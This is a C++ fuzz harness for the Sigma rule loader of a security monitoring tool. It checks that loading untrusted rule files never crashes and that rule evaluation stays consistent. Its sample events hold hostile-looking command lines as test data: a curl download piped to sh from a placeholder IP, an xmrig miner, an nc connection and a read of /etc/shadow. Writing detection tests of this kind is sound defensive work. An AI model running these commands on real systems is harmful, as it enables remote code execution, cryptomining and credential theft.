// Fuzzes the Sigma rule loader (rules::load_rules_yaml): rule files are shared
// between sites, so a rule file is untrusted input. Loaded rules are then
// evaluated against one event of each kind so that compiled predicates
// (wildcards, modifiers, conditions) run too.
// Properties: load_rules_yaml never throws and returns an engine; the counts
// agree; Engine::evaluate never throws, only raises alerts of loaded rules,
// and agrees with evaluate_naive (the literal prefilter loses nothing).
#include <cstddef>
#include <cstdint>
#include <exception>
#include <string>
#include <string_view>
#include <vector>

#include "fuzz_util.h"
#include "vigie/rules/engine.h"

using vigie::fuzz::check;
using vigie::fuzz::finding;
namespace protocol = vigie::protocol;
namespace rules = vigie::rules;

namespace {

protocol::Event base_event() {
  protocol::Event e;
  e.time_ns = 1'700'000'000'000'000'000ull;
  e.site = "site-a";
  e.host = "node1";
  e.pid = 4242;
  e.ppid = 4000;
  e.uid = 1001;
  e.gid = 1001;
  e.user = "alice";
  e.cgroup_id = 77;
  e.workload = {protocol::WorkloadKind::kSlurmJob, "42", "alice", "/slurm/uid_1001/job_42/step_0"};
  return e;
}

std::vector<protocol::Event> make_events() {
  std::vector<protocol::Event> events;
  protocol::Event exec = base_event();
  exec.body = protocol::ProcessExec{
      "/tmp/.x/xmrig", {"xmrig", "-o", "stratum+tcp://pool.example:3333", "*?\\"},
      false,           "xmrig -o stratum+tcp://pool.example:3333 *?\\",
      "/bin/bash",     "bash -c curl -s http://198.51.100.7/x.sh | sh"};
  events.push_back(exec);
  protocol::Event exit = base_event();
  exit.body = protocol::ProcessExit{1, 9, "/usr/bin/nmap"};
  events.push_back(exit);
  protocol::Event connect = base_event();
  connect.workload = {protocol::WorkloadKind::kHost, "host", "", "/"};
  connect.body = protocol::NetworkConnect{
      {protocol::Transport::kTcp, true, "2001:db8::7", 3333, "/usr/bin/nc", "2001:db8::1", 40000}};
  events.push_back(connect);
  protocol::Event open = base_event();
  open.body = protocol::FileOpen{"/etc/shadow", 0, false, false, false, "/usr/bin/cat", 0};
  events.push_back(open);
  protocol::Event ptrace = base_event();
  ptrace.body = protocol::Ptrace{16, 7, 0, "/usr/sbin/sshd", "/usr/bin/gdb", 0};
  events.push_back(ptrace);
  return events;
}

const std::vector<protocol::Event> kEvents = make_events();

}  // namespace

extern "C" int LLVMFuzzerTestOneInput(const uint8_t* data, size_t size) {
  const std::string_view yaml(reinterpret_cast<const char*>(data), size);
  rules::LoadResult result;
  try {
    result = rules::load_rules_yaml(yaml, "fuzz.yml");
  } catch (const std::exception& e) {
    finding(std::string("load_rules_yaml threw: ") + e.what());
  } catch (...) {
    finding("load_rules_yaml threw a non-std exception");
  }
  check(result.engine != nullptr, "load_rules_yaml returned a null engine");
  check(result.rules_loaded >= 0 && result.rules_loaded <= result.rules_total,
        "rules_loaded outside [0, rules_total]");
  check(static_cast<size_t>(result.rules_loaded) == result.engine->rules().size(),
        "rules_loaded disagrees with the engine's rules");
  (void)result.summary();

  std::vector<protocol::Alert> alerts, naive;
  for (const auto& event : kEvents) {
    alerts.clear();
    naive.clear();
    try {
      result.engine->evaluate(event, alerts);
      result.engine->evaluate_naive(event, naive);
      (void)result.engine->explain(event);
    } catch (const std::exception& e) {
      finding(std::string("Engine::evaluate threw: ") + e.what());
    }
    check(alerts == naive, "prefiltered evaluation disagrees with naive evaluation");
    for (const auto& alert : alerts) {
      bool known = false;
      for (const auto& info : result.engine->rules()) known |= info.id == alert.rule_id;
      check(known, "alert for a rule id the engine did not load: " + alert.rule_id);
      check(alert.event == event, "alert carries another event than the one evaluated");
    }
  }
  return 0;
}
